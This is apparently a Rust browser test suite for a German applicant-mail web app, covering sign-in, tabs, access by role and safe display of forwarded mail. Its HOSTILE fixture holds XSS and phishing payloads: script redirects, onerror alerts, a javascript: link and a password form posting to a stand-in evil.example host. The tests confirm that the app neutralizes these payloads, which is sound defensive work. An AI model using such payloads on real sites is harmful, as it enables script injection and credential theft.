//! The way of a reply to the people it is for: the notification, signing in, the profile with its tabs.

use crate::browser::{Browser, Session};
use crate::house::{House, house};
use crate::mails::forward;
use std::collections::BTreeSet;

/// A page with every kind of text that a mail program writes, and all that could do harm.
pub const HOSTILE: &str = "<html><head><meta http-equiv=refresh content='0;url=https://evil.example/refresh'>\
    <base href='https://evil.example/' target=_top><link rel=stylesheet href='https://evil.example/style'>\
    <style>@import 'https://evil.example/import'; p { background: url(https://evil.example/css) }</style></head>\
    <body onload=\"document.title='taken'\"><p>Bitte zur Akte.</p>\
    <div><b>Von:</b> Erika Beispiel &lt;erika@example.org&gt;<br><b>Gesendet:</b> Mittwoch, 13. März 2024 09:12<br>\
    <b>An:</b> Ruth Muster<br><b>Betreff:</b> Meine Unterlagen</div><p>Guten Tag aus dem Rahmen</p>\
    <script>top.location='https://evil.example/script'</script>\
    <img src='https://evil.example/picture' srcset='https://evil.example/srcset 2x' onerror=alert(1)>\
    <div style='position:fixed;top:0;left:0;width:9999px;height:9999px;background:url(https://evil.example/overlay)'>x</div>\
    <form action='https://evil.example/form'><input name=password><button>Anmelden</button></form>\
    <iframe src='https://evil.example/frame'></iframe><object data='https://evil.example/object'></object>\
    <embed src='https://evil.example/embed'><svg onload=alert(1)><image href='https://evil.example/svg'/></svg>\
    <video src='https://evil.example/video' autoplay poster='https://evil.example/poster'></video>\
    <a href='javascript:alert(1)'>Klick</a> <a href='https://evil.example/top' target=_top>oben</a></body></html>";

#[test]
fn from_a_forwarded_mail_to_the_opened_magnifier() {
    let house = house();
    house.import(&forward("482137 Unterlagen").pdf("Lebenslauf.pdf").file("Notiz.txt", "Grüße"));
    let browser = Browser::start(house.port());
    let session = browser.session();
    house.inbox("karl", 1);
    let link = house.links("karl", "/entries/").pop().unwrap();
    session.open_page(&link);
    assert!(session.address().starts_with(&house.at("/sign-in?next=")), "{}", session.address());
    looks_good(&session);
    house.finish_sign_in(&session, "karl");
    session.wait_for_address(&link);
    assert_eq!(session.text("h1"), "Erika Beispiel");
    session.wait_for_text("Guten Tag Frau Muster");
    for wanted in
        ["482137", "import@example.test", "Lagerist", "erika@example.org", "Bitte zur Akte.", "Lebenslauf.pdf"]
    {
        assert!(session.page_text().contains(wanted), "{wanted} in {}", session.page_text());
    }
    looks_good(&session);
    assert_eq!(house.id("SELECT COUNT(*) AS id FROM audit WHERE what = 'mail_viewed' AND actor = 'web'"), 1);

    tabs_and_kinds(&house, &session);
    the_magnifier_opens_in_place(&house, &session);
    session.click_words("Abmelden");
    session.wait_for_address(&house.at("/sign-in"));
    session.open_page(&link);
    assert!(session.address().starts_with(&house.at("/sign-in?next=")), "{}", session.address());
    assert_eq!(browser.requests().strangers(), []);
}

/// Karl's tabs, and a kind that he corrects.
fn tabs_and_kinds(house: &House, session: &Session) {
    let tabs = session.texts("nav.tabs a");
    assert_eq!(tabs, ["Historie", "Dateien"], "the Fachbereich has no tab Dokumente");
    session.click("nav.tabs li:nth-child(2) a");
    session.wait_for("section.kind");
    assert_eq!(session.texts("section.kind h3"), ["Lebenslauf", "Sonstige"]);
    looks_good(session);
    let file = house.id("SELECT id FROM files WHERE name = 'Notiz.txt'");
    session.choose(&format!("#kind-of-{file}"), "cover_letter");
    session.click(&format!("#file-{file} form button"));
    session.wait_for("#kind-cover_letter");
    assert_eq!(session.texts("section.kind h3"), ["Lebenslauf", "Anschreiben"]);
    assert!(session.text(&format!("#file-{file}")).contains("von Hand"), "{}", session.page_text());
    assert_eq!(house.id("SELECT COUNT(*) AS id FROM audit WHERE what = 'kind_corrected'"), 1);
    session.open_page(&house.at(&format!("/files/{file}/preview")));
    assert_eq!(session.page_text(), "Grüße");
    let headers = session.script(&format!(
        "const request = new XMLHttpRequest(); request.open('HEAD', '/files/{file}', false); \
         try {{ request.send() }} catch (error) {{ return 'blocked' }} return request.getAllResponseHeaders()"
    ));
    assert_eq!(headers, "blocked", "a preview asks for nothing");
}

/// With a script the magnifier opens on the page that is there, and closes.
fn the_magnifier_opens_in_place(house: &House, session: &Session) {
    let history = house.at(&format!("/applications/{}", house.application("482137")));
    session.open_page(&history);
    assert!(!session.sees(".original"));
    session.click("a.magnifier");
    session.wait_for(".original");
    assert_eq!(session.address(), history);
    looks_good(session);
    session.click("a.magnifier");
    assert!(!session.sees(".original"));
}

#[test]
fn a_hostile_mail_runs_nothing_asks_for_nothing_and_stays_in_its_frame() {
    let house = house();
    let mail = forward("482137 Unterlagen").html(HOSTILE).body("Bitte zur Akte.");
    house.import(&mail.file("seite.html", "<script>alert(1)</script>").file("bild.svg", "<svg onload='alert(1)'/>"));
    let browser = Browser::start(house.port());
    let session = browser.session();
    house.sign_in(&session, "ruth");
    let entry = house.at(&format!("/entries/{}", house.id("SELECT id FROM history_entries")));
    session.open_page(&entry);
    session.wait_for("iframe.content");
    let (text, harm) = session.in_frame("iframe.content", |frame| {
        let harm = "script, style[data-x], form, input, iframe, object, embed, svg, video, base[href], [style], [onload], [src]";
        (frame.page_text(), frame.count(harm))
    });
    assert!(text.contains("Guten Tag aus dem Rahmen"), "{text}");
    assert_eq!(harm, 0, "{text}");
    assert!(session.page_text().contains("Bild"), "it says that a picture stays blocked: {}", session.page_text());
    assert!(session.address().starts_with(&entry) && !session.title().contains("taken"), "{}", session.title());
    looks_good(&session);
    let openings = "SELECT COUNT(*) AS id FROM audit WHERE what = 'mail_viewed' AND actor = 'web'";
    assert_eq!(house.id(openings), 1, "the frame is a part of the magnifier");
    // The page in the frame, opened by itself, can do as little.
    session.open_page(&house.at(&format!("/mails/{}/content", house.id("SELECT id FROM mails"))));
    assert!(session.page_text().contains("Guten Tag aus dem Rahmen"));
    assert_eq!(house.id(openings), 2, "whoever opens it by itself opens the mail");
    assert_eq!(session.script("try { return document.cookie } catch (error) { return 'blocked' }"), "blocked");
    for file in house.ids("SELECT id FROM files") {
        session.open_page(&house.at(&format!("/files/{file}/preview")));
        assert_eq!(session.text("h1"), "Nicht gefunden", "a page or a drawing is a download only");
    }
    assert_eq!(browser.requests().strangers(), []);
}

#[test]
fn each_role_sees_what_is_theirs() {
    let house = house();
    house.import(&forward("482137 Unterlagen").pdf("Lebenslauf.pdf"));
    let browser = Browser::start(house.port());
    let session = browser.session();
    let profile = |number: &str| house.at(&format!("/applications/{}", house.application(number)));
    let (own, not_responsible, foreign) = (profile("482137"), profile("482138"), profile("999111"));
    for (user, numbers, sees_documents) in [
        ("ruth", &["482137", "482138", "482139"][..], true),
        ("rita", &["482137", "482138", "482139"], true),
        ("karl", &["482137", "482139"], false),
        ("vera", &["482137", "482139"], false),
    ] {
        session.forget_cookies();
        house.sign_in(&session, user);
        session.open_page(&house.at("/applications"));
        let shown: BTreeSet<String> = session.texts(".applications .number").into_iter().collect();
        assert_eq!(shown, numbers.iter().map(|&number| number.to_owned()).collect(), "{user}");
        looks_good(&session);
        session.fill("#q", "erika");
        session.click("form.search button");
        session.wait_for_address(&house.at("/applications?q=erika"));
        assert_eq!(session.texts(".applications .number"), ["482137"], "{user}");
        session.open_page(&own);
        assert_eq!(session.count("nav.tabs a"), if sees_documents { 3 } else { 2 }, "{user}");
        session.open_page(&format!("{own}/documents"));
        assert_eq!(is_nowhere(&session), !sees_documents, "{user}");
        session.open_page(&not_responsible);
        assert_eq!(is_nowhere(&session), !sees_documents, "{user}");
        session.open_page(&foreign);
        assert!(is_nowhere(&session), "{user}");
    }
    session.forget_cookies();
    house.sign_in(&session, "adam");
    session.open_page(&house.at("/applications"));
    assert!(["Kein Zugriff", "No access"].contains(&session.text("h1").as_str()), "{}", session.page_text());
    session.open_page(&own);
    assert!(is_nowhere(&session), "an administrator sees no content");
}

pub fn is_nowhere(session: &Session) -> bool {
    ["Nicht gefunden", "Not found"].contains(&session.text("h1").as_str())
}

/// Usable for everybody, on a telephone too, light and dark.
pub fn looks_good(session: &Session) {
    for (width, height) in [(360, 740), (1280, 900)] {
        session.size(width, height);
        for is_dark in [true, false] {
            session.dark(is_dark);
            assert_eq!(session.serious_findings(), [""; 0], "{}, {width} px, dark: {is_dark}", session.address());
        }
        assert_eq!(session.overhang(), 0, "{}, {width} px", session.address());
    }
}
